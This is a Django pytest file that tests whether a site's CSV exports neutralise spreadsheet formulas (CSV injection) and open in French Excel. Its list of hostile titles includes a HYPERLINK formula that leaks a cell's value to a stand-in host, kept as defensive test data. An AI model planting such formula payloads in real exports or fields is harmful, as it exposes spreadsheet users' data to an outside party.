"""Every CSV the project writes: formulas neutralised (OWASP CSV injection), UTF-8 with BOM
and ";" so that French Excel opens it (core/spreadsheets.py)."""

import csv
import io

import pytest
from django.urls import reverse

from core.spreadsheets import neutralise_formula
from listings.factories import ListingFactory
from reference.factories import CommuneFactory

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1;"Cliquez")',
    "+33 6 00 00 00 00 =1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE_TITLES)
def test_formula_prefixes_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Cabinet à Die", "", 12, -3.5, None, "Loyer 3 = offert"])
def test_ordinary_values_are_unchanged(value):
    assert neutralise_formula(value) == value


def csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith("\ufeff".encode()), "UTF-8 with BOM"
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


@pytest.fixture
def hostile_listings():
    commune = CommuneFactory(insee_code="26362", name="Valence")
    return [ListingFactory(title=title, commune=commune) for title in HOSTILE_TITLES]


@pytest.fixture
def moderator_client(client, moderator):
    client.force_login(moderator)
    return client


@pytest.mark.parametrize(
    "url", [reverse("listings_report"), reverse("wagtailsnippets_listings_listing:list")], ids=["report", "index"]
)
def test_admin_csv_exports_are_safe_and_open_in_french_excel(moderator_client, hostile_listings, url):
    response = moderator_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    cells = csv_cells(response)
    for title in HOSTILE_TITLES:
        assert "'" + title in cells
        assert title not in cells


def test_open_data_csv_is_safe(client, hostile_listings):
    response = client.get("/donnees-ouvertes/annonces.csv")
    assert response.status_code == 200
    cells = csv_cells(response)
    for title in HOSTILE_TITLES:
        assert "'" + title in cells and title not in cells
